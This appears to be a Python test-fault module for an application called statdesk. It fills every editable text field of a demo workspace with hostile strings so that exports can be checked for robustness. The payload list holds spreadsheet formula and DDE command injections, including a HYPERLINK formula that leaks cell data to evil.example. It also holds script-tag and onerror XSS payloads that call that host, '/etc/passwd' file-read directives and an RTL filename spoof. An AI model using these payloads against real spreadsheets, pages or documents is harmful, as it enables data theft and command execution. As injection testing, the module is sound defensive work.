"""The demo city with every text a user can type replaced by hostile text.

Every free-text column of every record a user edits gets one of `HOSTILE` (a different one
per record, so each string reaches each kind of field), through the workspace's own updates,
so only what its validation accepts is stored, as a user could. A field whose rules refuse all
of them (an e-mail address, a web address) keeps its value.

    uv run python -m tests.faults.hostile OUT.statdesk     writes the file, to look at exports
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

from sqlalchemy import String, Text

from statdesk.domain.errors import ValidationFailed
from statdesk.storage import models as m
from statdesk.workspace import Workspace
from statdesk.workspace.file_ops import create_demo

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "<img src=x onerror=\"fetch('http://evil.example')\">",
    '#read("/etc/passwd")',
    '#image("/etc/passwd") #import "@preview/evil:0.1.0"',
    "] ) } $x^2$ *bold* _under_ `raw` \\",
    "\u202egnp.exe \u202dRTL override",
    "Cost per $1,000 $ of [budget]",
    "Supercalifragilistic" * 250,  # a 5,000-character word
    "emoji 🚧🦺👷‍♀️",
    "tab\tand\rcarriage return and \x0b vertical tab",
    '"quoted", comma; semicolon',
    "{{ template }} ${expr} %s %(name)s {0}",
]
EDITABLE = (
    m.City,
    m.Department,
    m.Person,
    m.RoleAssignment,
    m.BudgetPortfolio,
    m.StrategicPriority,
    m.Goal,
    m.Metric,
    m.MetricDataset,
    m.Target,
    m.MetricValue,
    m.Dataset,
    m.Meeting,
    m.Attendee,
    m.AgendaItem,
    m.ActionItem,
)
MAX_RECORDS = 40  # of each kind: plenty for every export to show some


def text_fields(model: type[m.Base]) -> list[str]:
    return [
        column.key
        for column in model.__table__.columns
        if isinstance(column.type, String | Text)
        and type(column.type).__name__ != "EnumText"
        and not column.primary_key
        and not column.foreign_keys
    ]


def make_hostile(workspace: Workspace) -> dict[str, list[str]]:
    """Fill the workspace with hostile text; returns, per table, the fields that took it."""
    taken: dict[str, set[str]] = {}
    serial = 0
    for model in EDITABLE:
        fields = text_fields(model)
        for record in workspace.query(model)[:MAX_RECORDS]:
            serial += 1
            pick = {name: serial + i for i, name in enumerate(fields)}  # which string, by field
            tries = dict.fromkeys(fields, 0)
            while pick:
                values: dict[str, Any] = {
                    name: f"{HOSTILE[n % len(HOSTILE)]} {serial}" for name, n in pick.items()
                }
                try:
                    workspace.update(model, record.id, **values)
                except ValidationFailed as refused:
                    refusing = {p.field for p in refused.problems} & set(pick)
                    if not refusing:
                        break  # a rule on the record as a whole: leave it as it is
                    for name in refusing:  # the next string; none at all after every one
                        pick[name] += 1
                        tries[name] += 1
                        if tries[name] == len(HOSTILE):
                            del pick[name]
                    continue
                taken.setdefault(model.__tablename__, set()).update(values)
                break
    return {table: sorted(names) for table, names in taken.items()}


if __name__ == "__main__":
    target = Path(sys.argv[1])
    with create_demo(target, replace=True) as demo:
        filled = make_hostile(demo)
    for table, names in filled.items():
        print(f"{table}: {', '.join(names)}")
